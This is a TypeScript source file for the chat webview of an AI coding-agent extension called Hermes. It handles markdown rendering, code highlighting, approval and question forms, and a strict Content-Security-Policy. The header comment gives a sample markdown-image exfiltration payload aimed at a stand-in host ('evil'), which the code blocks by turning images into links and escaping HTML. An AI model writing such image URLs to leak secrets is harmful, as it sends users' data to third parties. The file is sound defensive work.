// The chat view's HTML: the conversation rendered with markdown-it, inside a page whose
// Content-Security-Policy allows the extension's own script (by nonce) and style, and images only
// from the extension's own resources (the webview's cspSource) and data: URLs; nothing else is
// loaded. What the model writes is hostile: an image it writes (`![x](https://evil/?q=secret)`,
// reference-style too) would send the words in its URL out as soon as the view showed it, so images
// are rendered as links the person can click (opened by VS Code, which asks first), never fetched;
// HTML in the markdown is shown as text, not rendered. Code blocks are highlighted here, in the
// extension, by the bundled highlight.js (its spans, with the code escaped), and carry a copy button;
// `- [ ]` list items are task list items. No vscode import.

import hljs from 'highlight.js/lib/core';
import bash from 'highlight.js/lib/languages/bash';
import c from 'highlight.js/lib/languages/c';
import cpp from 'highlight.js/lib/languages/cpp';
import csharp from 'highlight.js/lib/languages/csharp';
import css from 'highlight.js/lib/languages/css';
import diff from 'highlight.js/lib/languages/diff';
import dockerfile from 'highlight.js/lib/languages/dockerfile';
import go from 'highlight.js/lib/languages/go';
import ini from 'highlight.js/lib/languages/ini';
import java from 'highlight.js/lib/languages/java';
import javascript from 'highlight.js/lib/languages/javascript';
import json from 'highlight.js/lib/languages/json';
import kotlin from 'highlight.js/lib/languages/kotlin';
import lisp from 'highlight.js/lib/languages/lisp';
import lua from 'highlight.js/lib/languages/lua';
import makefile from 'highlight.js/lib/languages/makefile';
import markdownLang from 'highlight.js/lib/languages/markdown';
import php from 'highlight.js/lib/languages/php';
import python from 'highlight.js/lib/languages/python';
import ruby from 'highlight.js/lib/languages/ruby';
import rust from 'highlight.js/lib/languages/rust';
import shell from 'highlight.js/lib/languages/shell';
import sql from 'highlight.js/lib/languages/sql';
import swift from 'highlight.js/lib/languages/swift';
import typescript from 'highlight.js/lib/languages/typescript';
import xml from 'highlight.js/lib/languages/xml';
import yaml from 'highlight.js/lib/languages/yaml';
import MarkdownIt from 'markdown-it';

import type { ChatItem } from './chatModel';
import { Actions } from './protocol';
import { options, submitTitle, type Asked } from './questions';

/** highlighter is highlight.js with the languages a chat's code blocks are most often in. */
function highlighter(): ReturnType<typeof hljs.newInstance> {
	const h = hljs.newInstance();
	const langs = {
		bash,
		c,
		cpp,
		csharp,
		css,
		diff,
		dockerfile,
		go,
		ini,
		java,
		javascript,
		json,
		kotlin,
		lisp,
		lua,
		makefile,
		markdown: markdownLang,
		php,
		python,
		ruby,
		rust,
		shell,
		sql,
		swift,
		typescript,
		xml,
		yaml,
	};
	for (const [name, lang] of Object.entries(langs)) {
		h.registerLanguage(name, lang);
	}
	h.registerAliases(['toml'], { languageName: 'ini' });
	h.registerAliases(['elisp', 'emacs-lisp'], { languageName: 'lisp' });
	h.registerAliases(['golang'], { languageName: 'go' });
	return h;
}

/** The highlighter: configured once, read only after. */
const hl = highlighter();

/**
 * highlight is a code block's HTML: highlight.js's spans when the block names a language it knows
 * (its output escapes the code), else '' (markdown-it then escapes the code itself).
 */
export function highlight(code: string, lang: string): string {
	const name = lang.trim().split(/\s+/)[0]?.toLowerCase() ?? '';
	if (!name || !hl.getLanguage(name)) {
		return '';
	}
	try {
		return hl.highlight(code, { language: name, ignoreIllegals: true }).value;
	} catch {
		return '';
	}
}

/**
 * taskLists makes a list item that starts with `[ ]` or `[x]` a task list item: a disabled check box
 * (its own token, rendered below) instead of the brackets.
 */
function taskLists(state: Parameters<Parameters<MarkdownIt['core']['ruler']['after']>[2]>[0]): void {
	const tokens = state.tokens;
	for (let i = 2; i < tokens.length; i++) {
		const inline = tokens[i];
		if (inline.type !== 'inline' || tokens[i - 1].type !== 'paragraph_open' || tokens[i - 2].type !== 'list_item_open') {
			continue;
		}
		const m = /^\[([ xX])\][ \t]/.exec(inline.content);
		const first = inline.children?.[0];
		if (!m || !first || first.type !== 'text' || !first.content.startsWith(m[0])) {
			continue;
		}
		first.content = first.content.slice(m[0].length);
		inline.content = inline.content.slice(m[0].length);
		const box = new state.Token('task_checkbox', 'input', 0);
		box.meta = { checked: m[1] !== ' ' };
		inline.children?.unshift(box);
		tokens[i - 2].attrJoin('class', 'task-list-item');
	}
}

const md = markdown(false);

/**
 * markdown is the chat's markdown-it: an image is a link to its URL, its words the alt text (or the
 * URL when there is none); inside a link (a badge) it is the alt text alone, as links do not nest;
 * only http(s) URLs become links (a data: or relative URL is left as words). Raw HTML is shown as
 * text even with html on: a model's <img src=...> never renders.
 */
export function markdown(html: boolean): MarkdownIt {
	const m = new MarkdownIt({ html, linkify: true, breaks: false, highlight });
	m.renderer.rules.image = (tokens, idx, options, env, self) => {
		const token = tokens[idx];
		const src = token.attrGet('src') ?? '';
		const alt = self.renderInlineAsText(token.children ?? [], options, env);
		const text = `🖼 ${escapeHtml(alt || src)}`;
		if (insideLink(tokens, idx) || !/^https?:/i.test(src)) {
			return text;
		}
		return `<a class="image-link" href="${escapeHtml(src)}" title="${escapeHtml(src)}">${text}</a>`;
	};
	m.renderer.rules.html_inline = (tokens, idx) => escapeHtml(tokens[idx].content);
	m.renderer.rules.html_block = (tokens, idx) => `<p>${escapeHtml(tokens[idx].content)}</p>`;
	// A code block: its language and a copy button above the highlighted code.
	const fence = m.renderer.rules.fence;
	m.renderer.rules.fence = (tokens, idx, options, env, self) => {
		const lang = tokens[idx].info.trim().split(/\s+/)[0] ?? '';
		const code = fence ? fence(tokens, idx, options, env, self) : self.renderToken(tokens, idx, options);
		const label = lang ? `<span class="lang">${escapeHtml(lang)}</span>` : '<span class="lang"></span>';
		return `<div class="code-block"><div class="code-bar">${label}<button class="copy" title="Copy the code" aria-label="Copy the code">Copy</button></div>${code}</div>\n`;
	};
	m.core.ruler.after('inline', 'task_lists', taskLists);
	m.renderer.rules.task_checkbox = (tokens, idx) =>
		`<input class="task" type="checkbox" disabled${(tokens[idx].meta as { checked: boolean }).checked ? ' checked' : ''}> `;
	return m;
}

/** insideLink reports whether the inline token at idx lies between a link_open and its link_close. */
function insideLink(tokens: readonly { type: string }[], idx: number): boolean {
	let depth = 0;
	for (let i = 0; i < idx; i++) {
		if (tokens[i].type === 'link_open') {
			depth++;
		} else if (tokens[i].type === 'link_close') {
			depth--;
		}
	}
	return depth > 0;
}

/**
 * csp is the page's Content-Security-Policy: nothing by default; images from the webview's own
 * resources and data: URLs (nothing remote); the extension's style; its one script, by nonce.
 */
export function csp(nonce: string, cspSource: string): string {
	return `default-src 'none'; img-src ${cspSource} data:; style-src ${cspSource}; script-src 'nonce-${nonce}';`;
}

/** escapeHtml escapes text for HTML. */
export function escapeHtml(s: string): string {
	return s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&#39;');
}

/** renderItem is one conversation item as HTML: one element, named by the item's key (data-key). */
export function renderItem(item: ChatItem): string {
	const k = `data-key="${item.key}"`;
	switch (item.kind) {
		case 'you':
			return `<div ${k} class="msg you"><div class="who">You</div>${md.render(item.text)}</div>`;
		case 'answer':
			return `<div ${k} class="msg answer"><div class="who">Hermes</div>${md.render(item.text)}</div>`;
		case 'tool': {
			const mark = !item.done ? '⋯' : item.ok ? '✓' : '✗';
			const line = `<span class="mark" aria-hidden="true">${mark}</span> <code>${escapeHtml(item.line)}</code>`;
			return item.output
				? `<details ${k} class="tool"><summary>${line}</summary><pre>${escapeHtml(item.output)}</pre></details>`
				: `<div ${k} class="tool">${line}</div>`;
		}
		case 'approval': {
			const warning = item.warning ? `<div class="warning">⚠ ${escapeHtml(item.warning)}</div>` : '';
			const answer = item.decision
				? `<span class="decided">${escapeHtml(item.decision)}</span>`
				: ['deny:Deny', 'once:Allow once', 'session:Allow for session']
						.map((d) => {
							const [decision, title] = d.split(':');
							return `<button data-approval="${escapeHtml(item.id)}" data-decision="${decision}">${title}</button>`;
						})
						.join(' ');
			return `<div ${k} class="approval">⏸ ${escapeHtml(item.summary)} ${answer}${warning}</div>`;
		}
		case 'question':
			return renderQuestion(k, item.key, item.id, item.asked, item.outcome);
		case 'diff':
			return `<details ${k} class="diff"><summary>diff</summary><pre>${escapeHtml(item.text)}</pre></details>`;
		case 'error': {
			const retry = item.retry ? `<button data-retry="${item.key}">Retry</button>` : '';
			return `<div ${k} class="error"><div class="who">Error</div><div class="error-text">${escapeHtml(item.text)}</div><div class="error-actions">${retry}<button data-switch-model>Switch model</button></div></div>`;
		}
		case 'end': {
			const undone = item.undone ? ' <span class="undone-mark">· undone</span>' : '';
			const link = item.transcript
				? ` · <button class="link" data-transcript="${item.key}" title="Open the thread's transcript">transcript</button>`
				: '';
			return `<div ${k} class="end${item.undone ? ' undone' : ''}">${escapeHtml(item.line)}${undone}${link}</div>`;
		}
	}
}

/**
 * renderQuestion is a question approval: who asks and what, then each question as a field (options
 * as radio buttons, check boxes for a multiChoice, an Other text field, a text field: a password
 * field for a secret) and the buttons Decline (first), Submit (Done for a link, Accept for a form
 * without fields) and Stop turn. The page reads the fields (data-qid, data-type) when a button is
 * pressed; what is typed stays in the page's fields, never in this HTML. A link is text with a
 * copy button: nothing loads or opens it. Once resolved, only the outcome is shown. The HTML does
 * not change while the question waits, so the page keeps what is typed.
 */
function renderQuestion(k: string, key: number, id: string, a: Asked, outcome: string): string {
	const tool = a.tool ? ` to run its tool "${a.tool}"` : '';
	const who = `<div class="who">${escapeHtml(`${a.asker} ${outcome ? 'asked' : 'asks'}${tool}`)}</div>`;
	const message = a.message ? `<div class="q-message">${escapeHtml(a.message)}</div>` : '';
	if (outcome) {
		const texts = a.questions.map((q) => `<li>${escapeHtml(q.header ? `${q.header}: ${q.text}` : q.text)}</li>`).join('');
		const list = texts ? `<ul class="q-list">${texts}</ul>` : '';
		const url = a.url ? `<div class="q-url-text">${escapeHtml(a.url)}</div>` : '';
		return `<div ${k} class="question answered">${who}${message}${url}${list}<span class="decided">${escapeHtml(outcome)}</span></div>`;
	}
	const url = a.url
		? `<div class="q-url">Open this page yourself, then press ${Actions.done}:</div><div class="code-block"><div class="code-bar"><span class="lang">url</span><button class="copy" title="Copy the address" aria-label="Copy the address">Copy</button></div><pre><code>${escapeHtml(a.url)}</code></pre></div>`
		: '';
	const fields = a.url ? '' : a.questions.map((q, i) => renderField(`q${key}-${i}`, q)).join('');
	const buttons = [
		`<button data-reply="deny">${Actions.decline}</button>`,
		`<button data-reply="once">${escapeHtml(submitTitle(a))}</button>`,
		`<button data-reply="stop">${Actions.stop}</button>`,
	].join(' ');
	return `<div ${k} class="question" role="group" aria-label="${escapeHtml(a.asker)} asks" data-question="${escapeHtml(id)}">${who}${message}${url}${fields}<div class="q-error q-all" role="alert"></div><div class="q-actions">${buttons}</div></div>`;
}

/** renderField is one question: its header, its text, the inputs its type takes, and a place for its error. */
function renderField(name: string, q: Asked['questions'][number]): string {
	const legend = q.header && q.header !== q.text ? `<legend>${escapeHtml(q.header)}</legend>` : '';
	const required = q.required ? ' <span class="q-required">(required)</span>' : '';
	const text = `<div class="q-text" id="${name}-text">${escapeHtml(q.text)}${required}</div>`;
	const chosen = new Set(q.default ?? []);
	const kind = q.secret ? 'password' : 'text';
	let inputs: string;
	const offered = options(q);
	if (offered.length > 0 || q.type === 'choice' || q.type === 'multiChoice') {
		const type = q.type === 'multiChoice' ? 'checkbox' : 'radio';
		inputs = offered
			.map((o) => {
				const desc = o.description ? ` <span class="q-desc">${escapeHtml(o.description)}</span>` : '';
				const checked = chosen.has(o.value) ? ' checked' : '';
				return `<label class="q-option"><input type="${type}" name="${name}" value="${escapeHtml(o.value)}"${checked}> ${escapeHtml(o.label)}${desc}</label>`;
			})
			.join('');
		if (q.other) {
			inputs += `<label class="q-option"><input type="${type}" name="${name}" data-other> Other:</label><input class="other-text" type="${kind}" autocomplete="off" aria-label="Other answer to ${escapeHtml(q.text)}">`;
		}
	} else {
		const mode = q.type === 'number' ? ' inputmode="decimal"' : q.type === 'integer' ? ' inputmode="numeric"' : '';
		const value = !q.secret && q.default?.[0] ? ` value="${escapeHtml(q.default[0])}"` : '';
		inputs = `<input class="answer" type="${kind}"${mode}${value} autocomplete="off" spellcheck="false" aria-labelledby="${name}-text"${q.required ? ' aria-required="true"' : ''}>`;
	}
	return `<fieldset class="q-field" data-qid="${escapeHtml(q.id)}" data-type="${escapeHtml(q.type)}">${legend}${text}<div class="q-inputs">${inputs}</div><div class="q-error" role="alert"></div></fieldset>`;
}

/** renderItems is the whole conversation as HTML. */
export function renderItems(items: readonly ChatItem[]): string {
	return items.map(renderItem).join('\n');
}

/** ChatUpdate is what the view's page gets: the items' keys in order, and the HTML of those that changed. */
export interface ChatUpdate {
	order: number[];
	changed: [number, string][];
}

/**
 * renderUpdate renders the conversation against what the page shows (shown: key -> HTML, updated
 * here): the keys in order, and only the items whose HTML changed. The page keeps every other
 * element as it is, with its open tool output, focus and selection.
 */
export function renderUpdate(items: readonly ChatItem[], shown: Map<number, string>): ChatUpdate {
	const order: number[] = [];
	const changed: [number, string][] = [];
	const keep = new Set<number>();
	for (const item of items) {
		const html = renderItem(item);
		order.push(item.key);
		keep.add(item.key);
		if (shown.get(item.key) !== html) {
			shown.set(item.key, html);
			changed.push([item.key, html]);
		}
	}
	for (const key of [...shown.keys()]) {
		if (!keep.has(key)) {
			shown.delete(key);
		}
	}
	return { order, changed };
}

/**
 * announcement is what a screen reader hears of a change (the page's separate live region): new
 * content only, as plain words, never the whole conversation.
 */
export function announcement(item: ChatItem): string {
	const cut = (s: string) => (s.length > 400 ? s.slice(0, 400) + '…' : s);
	switch (item.kind) {
		case 'answer':
			return `Hermes: ${cut(item.text)}`;
		case 'approval':
			return item.decision ? '' : `Approval needed: ${cut(item.summary)}`;
		case 'question':
			return item.outcome ? '' : `${item.asked.asker} asks: ${cut(item.asked.message || item.asked.questions.map((q) => q.text).join(' '))}`;
		case 'error':
			return `Error: ${cut(item.text)}`;
		case 'end':
			return `Turn ${item.line}`;
		default:
			return '';
	}
}

/** page is the view's document: a strict CSP, the header, the conversation and the input box. */
export function page(nonce: string, cspSource: string, scriptUri: string, styleUri: string): string {
	return `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="UTF-8">
<meta http-equiv="Content-Security-Policy" content="${csp(nonce, cspSource)}">
<meta name="viewport" content="width=device-width, initial-scale=1.0">
<link rel="stylesheet" href="${styleUri}">
<title>Hermes</title>
</head>
<body>
<div id="header"><span id="info">Hermes</span></div>
<div id="log" aria-label="Conversation"></div>
<div id="empty"><p><strong>Ask Hermes to work in this workspace.</strong></p><p>Type below and press Enter (Shift+Enter for a new line). While a turn runs, what you send steers it.</p><p>Threads, Model and New thread are in this view's title bar; Hermes: Ask About Selection asks about selected code.</p></div>
<button id="jump" hidden title="Scroll to the newest message">↓ Jump to latest</button>
<div id="live" class="sr-only" aria-live="polite"></div>
<form id="form"><textarea id="input" rows="3" aria-label="Ask Hermes" placeholder="Ask Hermes (Enter sends, Shift+Enter for a new line; while a turn runs, it steers it)"></textarea></form>
<script nonce="${nonce}" src="${scriptUri}"></script>
</body>
</html>`;
}
